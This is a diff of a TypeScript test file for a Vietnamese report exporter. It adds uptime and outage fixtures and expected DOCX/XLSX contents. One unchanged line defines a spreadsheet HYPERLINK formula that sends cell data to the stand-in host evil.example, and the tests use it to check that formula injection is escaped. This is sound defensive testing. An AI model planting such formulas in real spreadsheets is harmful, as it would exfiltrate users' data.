@@ -4,7 +4,7 @@ import ExcelJS from 'exceljs';
 import JSZip from 'jszip';
 import { describe, expect, it } from 'vitest';
 import { reportWriter } from '../../../adapters/office/index.js';
-import { reportCharts } from '../../../adapters/office/reportCharts.js';
+import { dayLabels, reportCharts } from '../../../adapters/office/reportCharts.js';
 import { spreadsheetText } from '../../../adapters/office/reportXlsx.js';
 import type { ReportFigures } from '../../../src/app/reports/figures.js';
 import { parsePeriod, previousPeriod, sameLastYear } from '../../../src/core/reports/period.js';
@@ -16,6 +16,7 @@ const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")';
 /** A quarter of a province with three sites; names carry diacritics and, where people type them, formula-like starts. */
 const figures: ReportFigures = {
   period,
+  timeZone: 'Asia/Ho_Chi_Minh',
   runningUntil: null,
   previous: previousPeriod(period),
   lastYear: sameLastYear(period),
@@ -65,7 +66,17 @@ const figures: ReportFigures = {
       split: [{ account: 'autonomy', amount: 15_000_000 }, { account: 'people', amount: 20_000_000 }, { account: 'royaltyFund', amount: 5_000_000 }, { account: 'technology', amount: 10_000_000 }],
     },
     incidents: { raised: 7, byKind: [{ key: 'mirror', count: 5 }, { key: 'mail', count: 2 }] },
-    uptime: null,
+    // The quarter recorded whole, with a 14-minute outage and a 30-second restart.
+    uptime: {
+      recordedFrom: new Date('2026-06-30T17:00:00Z'),
+      recordedTo: new Date('2026-09-30T17:00:00Z'),
+      upMs: 92 * 86_400_000 - 870_000,
+      downMs: 870_000,
+      outages: [
+        { from: new Date('2026-08-10T01:00:00Z'), to: new Date('2026-08-10T01:14:00Z') },
+        { from: new Date('2026-09-02T03:00:00Z'), to: new Date('2026-09-02T03:00:30Z') },
+      ],
+    },
   },
 };
 
@@ -94,7 +105,7 @@ describe('the periodic report as files (issue 20.7)', async () => {
     // The header and the closing block, then 11 data tables: items, sections, channels, kinds, weeks, lead, visits, top, tickets, mirrors, sites;
     // then 6 of issue 20.6: interactions, consultations, documents, royalties, media services, incidents.
     expect(xml.match(/<w:tbl>/g)).toHaveLength(19);
-    for (const text of ['VII. Tương tác trên các nền tảng', 'XI. Sự cố và thời gian hoạt động', 'Thời gian hoạt động: không ghi nhận']) expect(xml.includes(text), text).toBe(true);
+    for (const text of ['VII. Tương tác trên các nền tảng', 'XI. Sự cố và thời gian hoạt động', 'Thời gian hoạt động: 99,98 % thời gian từ 00:00 01/07/2026 đến 00:00 01/10/2026; gián đoạn 2 lần, tổng 0 giờ 15 phút.']) expect(xml.includes(text), text).toBe(true);
     const tables = (await readDocx(files.docx)).flatMap((b) => ('table' in b ? [b.table] : []));
     const sections = tables.find((t) => t[0]?.join('|') === 'STT|Chuyên mục|Số tin')!;
     expect(sections).toHaveLength(figures.items.bySection.length + 1);
@@ -115,7 +126,7 @@ describe('the periodic report as files (issue 20.7)', async () => {
     const book = new ExcelJS.Workbook();
     await book.xlsx.load(new Uint8Array(files.xlsx).buffer);
     expect(book.worksheets.map((w) => w.name)).toEqual(SHEETS);
-    const rows = [11, 4, 3, 2, figures.items.perWeek.length, 92, 4, 2, 4 + 2 + 2 + 2, 3, 2 + 1 + 1, 5, 2 + 1, 4, 5 + 4, 1 + 2 + 1];
+    const rows = [11, 4, 3, 2, figures.items.perWeek.length, 92, 4, 2, 4 + 2 + 2 + 2, 3, 2 + 1 + 1, 5, 2 + 1, 4, 5 + 4, 1 + 2 + 5];
     expect(book.worksheets.map((w) => w.rowCount)).toEqual(rows.map((r) => r + 1));
     expect(book.getWorksheet('Theo chuyên mục')!.getRow(1).getCell(2).value).toBe('Chuyên mục / Section');
     const texts: string[] = [];
@@ -131,8 +142,22 @@ describe('the periodic report as files (issue 20.7)', async () => {
     for (const escaped of [`'${HYPERLINK}`, "'-2 độ: rét đậm ở vùng núi", "'@x Hội nghị trực tuyến", "'+1", "'@x"]) expect(texts).toContain(escaped);
     // Money stays a number the office can sum; a split's account reads in both languages.
     expect(book.getWorksheet('Dịch vụ truyền thông')!.getRow(7).values).toEqual([undefined, 'Phân chia: Quỹ tự chủ (30 %) (đồng) / Split: Autonomy (30 %) (VND)', 15_000_000]);
+    // Uptime as a number, the outages' minutes, the longest outage first with its local times.
+    const incidents = book.getWorksheet('Sự cố')!;
+    expect([5, 6, 7, 8, 9].map((r) => incidents.getRow(r).values)).toEqual([
+      [undefined, 'Thời gian hoạt động (%) / Uptime (%)', 99.98],
+      [undefined, 'Số lần gián đoạn / Outages', 2],
+      [undefined, 'Tổng thời gian gián đoạn (phút) / Downtime (minutes)', 15],
+      [undefined, 'Gián đoạn 08:00 10/08/2026 – 08:14 10/08/2026 (phút) / Outage 08:00 10/08/2026 – 08:14 10/08/2026 (minutes)', 14],
+      [undefined, 'Gián đoạn 10:00 02/09/2026 – 10:00 02/09/2026 (phút) / Outage 10:00 02/09/2026 – 10:00 02/09/2026 (minutes)', 1],
+    ]);
     const top = book.getWorksheet('Bài đọc nhiều')!.getRow(2);
     expect([top.getCell(3).value, top.getCell(4).value]).toEqual(['Khánh thành trường học ở Đồng Nai', 5400]);
+  });
+
+  it('labels days without the year within one year, with it when a range crosses into the next', () => {
+    expect(dayLabels(['2026-07-01', '2026-07-02'])).toEqual(['01/07', '02/07']);
+    expect(dayLabels(['2026-12-31', '2027-01-01'])).toEqual(['31/12/2026', '01/01/2027']);
   });
 
   it('escapes only what begins like a formula', () => {
